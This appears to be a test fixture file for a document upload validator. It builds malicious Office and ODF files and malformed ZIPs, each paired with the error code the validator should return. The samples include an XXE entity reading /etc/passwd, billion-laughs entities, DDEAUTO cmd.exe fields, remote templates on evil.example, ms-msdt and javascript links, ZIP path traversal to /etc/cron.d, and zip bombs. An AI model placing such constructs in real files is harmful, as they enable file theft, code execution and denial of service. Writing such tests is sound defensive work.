"""Malicious office documents and ZIP files, with the error code that each must get."""

import struct
from io import BytesIO
from random import Random
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZipFile, ZipInfo

from tests.support.samples.valid_files import field, odf, ooxml, package, pdf, relation_entry, relations

NOISE = Random(1).randbytes(2_200_000)  # noqa: S311 - the same at every run
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ENCRYPTED = '<encryption-data xmlns="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
OFFICE = "application/vnd.openxmlformats-officedocument."
LAUGHS = (
    '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    "<w>&c;</w>"
)
FETCHED = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>'


def renamed(type, content_type):
    mains = {"DOCX": "/word/document.xml", "XLSX": "/xl/workbook.xml", "PPTX": "/ppt/presentation.xml"}
    return ooxml(type, overrides={mains[type]: content_type})


def edited(made, change):
    """Return a ZIP with its end of central directory record changed by `change(end)`."""
    end = list(struct.unpack("<4s4H2LH", made[-22:]))
    change(end)
    return made[:-22] + struct.pack("<4s4H2LH", *end)


def bomb():
    return ooxml("DOCX", {"word/media/image1.png": bytes(40 * 1024 * 1024)})


def many_entries():
    return ooxml("DOCX", {f"word/{number}": b"" for number in range(10_050)})


def lying_about_its_size():
    """Return a ZIP with an entry of one megabyte that declares ten bytes."""
    made = bytearray(ooxml("DOCX", {"word/a.bin": b"a" * 1024 * 1024}))
    at = made.rindex(b"word/a.bin") - 46
    made[at + 24 : at + 28] = struct.pack("<L", 10)
    return bytes(made)


def overlapping():
    """Return a ZIP with two entries for the same bytes."""
    made = bytearray(ooxml("DOCX", {"word/a.xml": "<a/>", "word/b.xml": "<a/>"}))
    first, second = made.rindex(b"word/a.xml") - 46, made.rindex(b"word/b.xml") - 46
    made[second + 42 : second + 46] = made[first + 42 : first + 46]
    return bytes(made)


def with_a_gap():
    """Return a ZIP with bytes between the entries and the central directory."""
    made = ooxml("DOCX")
    start = struct.unpack("<4s4H2LH", made[-22:])[6]
    return edited(made[:start] + pdf() + made[start:], lambda end: end.__setitem__(6, start + len(pdf())))


def with_entry(name, content=b"x", attributes=0, packing=ZIP_DEFLATED, flags=0):
    """Return a document with an entry that zipfile would not write itself."""
    made = BytesIO(ooxml("DOCX"))
    with ZipFile(made, "a") as archive:
        entry = ZipInfo("word/placeholder".ljust(len(name), "_")[: len(name)])
        entry.external_attr, entry.compress_type = attributes, packing
        archive.writestr(entry, content)
    written = bytearray(made.getvalue().replace(entry.filename.encode(), name.encode()))
    if flags:
        for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            written[written.rindex(signature) + place] |= flags
    return bytes(written)


def twice():
    made = BytesIO(ooxml("DOCX"))
    with ZipFile(made, "a") as archive:
        archive.writestr("WORD/Document.xml", "<a/>")
    return made.getvalue()


def with_wrong_checksum():
    made = bytearray(ooxml("DOCX"))
    at = made.rindex(b"word/document.xml") - 46 + 16
    made[at] ^= 1
    return bytes(made)


def deep():
    return ooxml("DOCX", body="<w:a>" * 5000 + "</w:a>" * 5000)


def long_tag():
    return ooxml("DOCX", {"word/a.xml": f"<a b='{NOISE.hex()}'/>"})


def encrypted_today():
    return OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)


def chart(within):
    return ooxml("PPTX", {"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": within})


def packed_mimetype():
    return package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"})


def odf_with(body):
    return odf("ODT", body=body)


# {description: (error code, file name, function that creates the file)}
def declaring(extension, more):
    """Return a DOCX that declares embedded objects by their extension."""
    types = f'<Default Extension="{extension}" ContentType="{OFFICE}oleObject"/></Types>'
    made = ooxml("DOCX", more)
    with ZipFile(BytesIO(made)) as archive:
        entries = {name: archive.read(name).decode() for name in archive.namelist()}
    return package({**entries, "[Content_Types].xml": entries["[Content_Types].xml"].replace("</Types>", types)})


REFUSED = {
    # legacy and other types
    "DOC": ("old_office", "a.doc", lambda: OLE + bytes(2000)),
    "DOC called DOCX": ("old_office", "a.docx", lambda: OLE + bytes(2000)),
    "DOCX with a password": ("protected", "a.docx", encrypted_today),
    "RTF": ("rtf", "a.rtf", lambda: b"{\\rtf1 a}"),
    "RTF that only Word knows": ("rtf", "a.doc", lambda: b"{\\rt{\\object\\objocx}}"),
    "DOTX": ("template", "a.docx", lambda: renamed("DOCX", f"{OFFICE}wordprocessingml.template.main+xml")),
    "PPSX": ("template", "a.pptx", lambda: renamed("PPTX", f"{OFFICE}presentationml.slideshow.main+xml")),
    "OTT": ("template", "a.odt", lambda: odf("ODT", mimetype="application/vnd.oasis.opendocument.text-template")),
    "ODG": ("not_document", "a.odt", lambda: odf("ODT", mimetype="application/vnd.oasis.opendocument.graphics")),
    "EPUB": ("not_document", "a.odt", lambda: package({"mimetype": "application/epub+zip"}, first="mimetype")),
    "archive": ("not_document", "a.zip", lambda: package({"a.txt": "a"})),
    "archive called DOCX": ("not_document", "a.docx", lambda: package({"a.exe": b"MZ"})),
    "empty archive": ("not_document", "a.docx", lambda: package({})),
    "package without a document": ("not_document", "a.docx", lambda: ooxml("DOCX", without=["word/document.xml"])),
    "package with two documents": ("damaged", "a.docx", lambda: ooxml(
        "DOCX", {"xl/workbook.xml": "<a/>"}, {"/xl/workbook.xml": f"{OFFICE}spreadsheetml.sheet.main+xml"})),
    "XLSX called DOCX": ("mislabelled", "a.docx", lambda: ooxml("XLSX")),
    "DOCX called PDF": ("mislabelled", "a.pdf", lambda: ooxml("DOCX")),
    "ODT called DOCX": ("mislabelled", "a.docx", lambda: odf("ODT")),
    "DOCX called DOCM": ("mislabelled", "a.docm", lambda: ooxml("DOCX")),
    # executable content
    "DOCX with VBA": ("macros", "a.docx", lambda: ooxml("DOCX", {"word/vbaProject.bin": OLE})),
    "DOCX with VBA in capitals": ("macros", "a.docx", lambda: ooxml("DOCX", {"word/VBAPROJECT.BIN": OLE})),
    "DOCX with VBA under another name": ("macros", "a.docx", lambda: ooxml(
        "DOCX", {"word/a.bin": OLE}, {"/word/a.bin": "application/vnd.ms-office.vbaProject"})),
    "DOCX with VBA by relation alone": ("macros", "a.docx", lambda: relation_entry(("vbaProject", "a.bin", False))),
    "DOCM called DOCX": ("macros", "a.docx", lambda: renamed(
        "DOCX", "application/vnd.ms-word.document.macroEnabled.main+xml")),
    "XLSM called XLSX": ("macros", "a.xlsx", lambda: (
        renamed("XLSX", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"))),
    "XLSB called XLSX": ("macros", "a.xlsx", lambda: renamed(
        "XLSX", "application/vnd.ms-excel.sheet.binary.macroEnabled.main")),
    "PPTM called PPTX": ("macros", "a.pptx", lambda: renamed(
        "PPTX", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")),
    "XLSX with a sheet of macros": ("macros", "a.xlsx", lambda: ooxml(
        "XLSX", {"xl/s.xml": "<a/>"}, {"/xl/s.xml": "application/vnd.ms-excel.macrosheet+xml"})),
    "PPTX that starts a program": ("macros", "a.pptx", lambda: ooxml(
        "PPTX", {"ppt/slides/slide1.xml": '<p:sld xmlns:p="p"><p:a action="ppaction://program"/></p:sld>'})),
    "DOCX with a link that is a script": ("macros", "a.docx", lambda: (
        relation_entry(("hyperlink", "javascript:alert(1)", True)))),
    "DOCX with a link to a protocol of Windows": ("link", "a.docx", lambda: (
        relation_entry(("hyperlink", "ms-msdt:/id", True)))),
    **{f"DOCX with a link to {target}": (code, "a.docx", lambda target=target: relation_entry(
        ("hyperlink", target, True))) for target, code in (
        ("vbscript:msgbox(1)", "macros"), ("data:text/html,a", "macros"), (" JavaScript:alert(1)", "macros"),
        ("vnd.sun.star.script:443/../a.py$b?language=Python", "macros"), ("macro:///Standard.Module1.Main()", "macros"),
        ("search-ms:query=a", "link"), ("ms-msdt: /id", "link"), ("ms-word:ofe|u|https://evil.example/a", "link"),
        ("about:config", "link"), ("Nota: vea el anexo", "link"), ("evil.handler:443/a", "link"))},
    "ODT with Basic": ("macros", "a.odt", lambda: odf("ODT", {"Basic/Standard/Module1.xml": "<a/>"})),
    "ODT with Python": ("macros", "a.odt", lambda: odf("ODT", {"Scripts/python/a.py": "a"})),
    "ODS with a macro on an event": ("macros", "a.ods", lambda: odf("ODS", body=(
        '<script:event-listener xlink:href="vnd.sun.star.script:../a.py$b?language=Python"/>'))),
    "ODP that starts a program": ("macros", "a.odp", lambda: odf("ODP", body=(
        '<presentation:event-listener presentation:action="execute" xlink:href="a.exe"/>'))),
    "ODT with a link that is a macro": ("macros", "a.odt", lambda: (
        odf_with('<text:a xlink:href="vnd.sun.star.script:a"/>'))),
    # external resources
    "DOCX with a template elsewhere": ("external", "a.docx", lambda: relation_entry(
        ("attachedTemplate", "https://evil.example/a.dotm", True))),
    "DOCX with a template on a network": ("external", "a.docx", lambda: relation_entry(
        ("attachedTemplate", r"file://\\evil.example\a.dotm", True))),
    **{f"DOCX with the template {target}": ("external", "a.docx", lambda target=target: relation_entry(
        ("attachedTemplate", target, True))) for target in (
        "file:///Users/../net/evil.example/a.dotm", "file:///%5C%5Cevil.example/a.dotm", "%5C%5Cevil.example/a.dotm",
        "file://///evil.example/a.dotm", "file://evil.example/a.dotm", "file:///net/evil.example/a.dotm",
        r"\\evil.example\a.dotm", "mhtml:a.dotm")},
    "DOCX with a picture elsewhere": ("external", "a.docx", lambda: (
        relation_entry(("image", "https://evil.example/a.png", True)))),
    "DOCX with an object elsewhere": ("external", "a.docx", lambda: relation_entry(
        ("oleObject", "mhtml:https://evil.example/a.html!x", True))),
    "DOCX with an address that is said to be within": ("external", "a.docx", lambda: relation_entry(
        ("image", "https://evil.example/a.png", False))),
    "DOCX with a field that starts a program": ("external", "a.docx", lambda: field("DDEAUTO cmd.exe")),
    "DOCX with such a field in pieces": ("external", "a.docx", lambda: field(" D", "DE", "AUTO cmd")),
    "DOCX with such a field in numbers": ("external", "a.docx", lambda: field(" QUOTE 68 68 69")),
    "DOCX with such a field in short": ("external", "a.docx", lambda: ooxml(
        "DOCX", body='<w:fldSimple w:instr="dde cmd"/>')),
    "DOCX with a field that fetches a picture": ("external", "a.docx", lambda: (
        field('INCLUDEPICTURE "https://evil.example"'))),
    "XLSX that reads another workbook": ("external", "a.xlsx", lambda: ooxml(
        "XLSX", {"xl/e.xml": "<a/>"}, {"/xl/e.xml": f"{OFFICE}spreadsheetml.externalLink+xml"})),
    "XLSX with a connection": ("external", "a.xlsx", lambda: ooxml(
        "XLSX", {"xl/c.xml": "<a/>"}, {"/xl/c.xml": f"{OFFICE}spreadsheetml.connections+xml"})),
    "DOCX with a web extension": ("external", "a.docx", lambda: ooxml(
        "DOCX", {"w.xml": "<a/>"}, {"/w.xml": "application/vnd.ms-office.webextension+xml"})),
    "ODT with a picture elsewhere": ("external", "a.odt", lambda: (
        odf_with('<draw:image xlink:href="https://evil.example/a"/>'))),
    "ODT with a picture beside it": ("external", "a.odt", lambda: odf_with('<draw:image xlink:href="../a.png"/>')),
    "ODT with a frame of a web page": ("external", "a.odt", lambda: odf_with('<draw:floating-frame xlink:href="a"/>')),
    "ODS that asks another program": ("external", "a.ods", lambda: odf("ODS", body="<table:dde-link/>")),
    "ODT with a template elsewhere": ("external", "a.odt", lambda: odf(
        "ODT", meta='<meta:template xlink:href="https://evil.example/a.ott"/>')),
    **{f"ODT with the template {target}": ("external", "a.odt", lambda target=target: odf(
        "ODT", meta=f'<meta:template xlink:href="{target}"/>')) for target in (
        "file:///net/evil.example/a.ott", "file://evil.example/a.ott", "//evil.example/a.ott", "smb://evil.example/a")},
    "ODS with a chart of another document": ("external", "a.ods", lambda: odf("ODS", body=(
        '<c:chart xmlns:c="urn:oasis:names:tc:opendocument:xmlns:chart:1.0" xlink:href="../a.ods"/>'))),
    "ODT with a picture of the folder above": ("external", "a.odt", lambda: odf_with('<draw:image xlink:href=".."/>')),
    "web page of LibreOffice": ("template", "a.odt", lambda: odf(
        "ODT", mimetype="application/vnd.oasis.opendocument.text-web")),
    # embedded content
    "DOCX with a picture in PDF": ("pdf_picture", "a.docx", lambda: ooxml("DOCX", {"word/media/image9.pdf": pdf()})),
    "DOCX with a part of a declared type": ("embedded", "a.docx", lambda: declaring("bin", {"word/a.bin": b"a"})),
    "DOCX with a part of a declared type in capitals": ("embedded", "a.docx", lambda: declaring(
        "BIN", {"word/a%2EBin": b"a"})),
    "ODT whose manifest defines its type": ("entities", "a.odt", lambda: odf(
        "ODT", {"META-INF/manifest.xml": "<!DOCTYPE m [<!ATTLIST m a CDATA 'b'>]><m/>"})),
    "ODT whose manifest defines an entity": ("entities", "a.odt", lambda: odf(
        "ODT", {"META-INF/manifest.xml": LAUGHS})),
    "DOCX with an object": ("embedded", "a.docx", lambda: ooxml("DOCX", {"word/embeddings/oleObject1.bin": OLE})),
    "DOCX with an object called a picture": ("embedded", "a.docx", lambda: (
        ooxml("DOCX", {"word/media/image1.png": OLE}))),
    "DOCX with ActiveX": ("embedded", "a.docx", lambda: ooxml("DOCX", {"word/activeX/activeX1.xml": "<a/>"})),
    "DOCX with a program": ("embedded", "a.docx", lambda: ooxml("DOCX", {"word/a.bin": b"MZ\x90\x00"})),
    "DOCX with a script": ("embedded", "a.docx", lambda: ooxml("DOCX", {"word/a.vbs": "a"})),
    "DOCX with a web page": ("embedded", "a.docx", lambda: relation_entry(("aFChunk", "a.htm", False))),
    "DOCX with RTF": ("embedded", "a.docx", lambda: ooxml("DOCX", {"word/a.bin": b"{\\rtf1}"})),
    "DOCX with a PDF": ("embedded", "a.docx", lambda: ooxml("DOCX", {"word/embeddings/a.bin": pdf()})),
    "DOCX with an archive": ("not_document", "a.docx", lambda: ooxml("DOCX", {"word/a.zip": package({"a": "a"})})),
    "PPTX with a workbook with macros": ("macros", "a.pptx", lambda: chart(ooxml("XLSX", {"xl/vbaProject.bin": OLE}))),
    "PPTX with a workbook with a workbook": ("embedded", "a.pptx", lambda: chart(
        ooxml("XLSX", {"xl/embeddings/a.xlsx": ooxml("XLSX")}))),
    "ODT with an object": ("embedded", "a.odt", lambda: odf("ODT", {"Object 1": OLE})),
    "ODT with an archive": ("embedded", "a.odt", lambda: odf("ODT", {"Object 1": package({"a": "a"})})),
    "ODT with a password": ("protected", "a.odt", lambda: odf(
        "ODT", {"META-INF/manifest.xml": ENCRYPTED})),
    "DOCX that is an ODT too": ("hides", "a.docx", lambda: ooxml("DOCX", {"mimetype": "a"})),
    "ODT that is a DOCX too": ("hides", "a.odt", lambda: odf("ODT", {"[Content_Types].xml": "<a/>"})),
    "ODT with a macro in words of another version": ("macros", "a.odt", lambda: odf_with(
        '<s:event-listener xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.3"/>')),
    "DOCX with a relation that is said twice": ("external", "a.docx", lambda: ooxml("DOCX", {"word/a.rels": relations(
        ("image", "a.png", True)).replace("/>", ' xmlns:x="urn:x" x:TargetMode="Internal"/>')})),
    # entities
    "DOCX with entities that multiply": ("entities", "a.docx", lambda: ooxml("DOCX", {"word/document.xml": LAUGHS})),
    "DOCX with an entity that reads a file": ("entities", "a.docx", lambda: (
        ooxml("DOCX", {"docProps/core.xml": FETCHED}))),
    "DOCX with entities in its relations": ("entities", "a.docx", lambda: ooxml("DOCX", {"_rels/.rels": LAUGHS})),
    "DOCX with entities in its types": ("entities", "a.docx", lambda: ooxml("DOCX", {"[Content_Types].xml": LAUGHS})),
    "DOCX with entities in UTF-16": ("entities", "a.docx", lambda: (
        ooxml("DOCX", {"word/a.xml": LAUGHS.encode("utf-16")}))),
    "DOCX with entities behind a comment": ("entities", "a.docx", lambda: ooxml(
        "DOCX", {"word/a.xml": f"<!--{'a' * 100_000}-->{LAUGHS}"})),
    "XLSX with entities in a sheet": ("entities", "a.xlsx", lambda: (
        ooxml("XLSX", {"xl/worksheets/sheet1.xml": LAUGHS}))),
    "ODT with entities": ("entities", "a.odt", lambda: odf("ODT", {"content.xml": LAUGHS})),
    "DOCX with a drawing with entities": ("entities", "a.docx", lambda: ooxml("DOCX", {"word/media/a.svg": LAUGHS})),
    # decompression bombs
    "ZIP bomb": ("bomb", "a.docx", bomb),
    "ZIP of very many entries": ("bomb", "a.docx", many_entries),
    "ZIP that lies about a size": ("damaged", "a.docx", lying_about_its_size),
    "ZIP whose entries share their bytes": ("damaged", "a.docx", overlapping),
    "XML of 5,000 levels": ("damaged", "a.docx", deep),
    "XML of one long tag": ("damaged", "a.docx", long_tag),
    # hidden data
    "ZIP behind other bytes": ("unknown", "a.docx", lambda: b"\x00\x01\x02\x03" * 10 + ooxml("DOCX")),
    "ZIP behind a script": ("not_document", "a.docx", lambda: b"#!/bin/sh\n" + ooxml("DOCX")),
    "ZIP with bytes behind it": ("hides", "a.docx", lambda: ooxml("DOCX") + b"<script>alert(1)</script>"),
    "ZIP with a comment": ("hides", "a.docx", lambda: (
        edited(ooxml("DOCX"), lambda end: end.__setitem__(7, 9)) + b"<script>a")),
    "ZIP with bytes between its entries": ("damaged", "a.docx", with_a_gap),
    "ZIP of two ZIPs": ("hides", "a.docx", lambda: ooxml("DOCX") + ooxml("XLSX")),
    "ZIP with a name that leads out": ("hides", "a.docx", lambda: with_entry("../../evil.xml")),
    "ZIP with a name that leads out in the way of Windows": ("hides", "a.docx", lambda: with_entry("..\\..\\evil.xml")),
    "ZIP with an absolute name": ("hides", "a.docx", lambda: with_entry("/etc/cron.d/evil")),
    "ZIP with a drive in a name": ("hides", "a.docx", lambda: with_entry("C:evil.xml.......")),
    "ZIP with a NUL in a name": ("hides", "a.docx", lambda: with_entry("word/a.xml\x00.png.....")),
    "ZIP with a name that stands twice": ("hides", "a.docx", twice),
    "ZIP with a link": ("damaged", "a.docx", lambda: with_entry("word/link.......", b"/etc/passwd", 0o120777 << 16)),
    "ZIP with an entry that is encrypted": ("protected", "a.docx", lambda: with_entry("word/a.xml......", flags=1)),
    "ZIP packed in an unusual way": ("damaged", "a.docx", lambda: with_entry("word/a.xml......", packing=ZIP_BZIP2)),
    "DOCX cut short": ("damaged", "a.docx", lambda: ooxml("DOCX")[:-100]),
    "DOCX of its first bytes": ("damaged", "a.docx", lambda: ooxml("DOCX")[:40]),
    "ODT cut short": ("damaged", "a.odt", lambda: odf("ODT")[: -len(odf("ODT")) // 3]),
    "DOCX with a wrong checksum": ("damaged", "a.docx", with_wrong_checksum),
    "DOCX of broken XML": ("damaged", "a.docx", lambda: ooxml("DOCX", body="<w:p>")),
    "ODT whose type is packed": ("damaged", "a.odt", packed_mimetype),
}  # fmt: skip
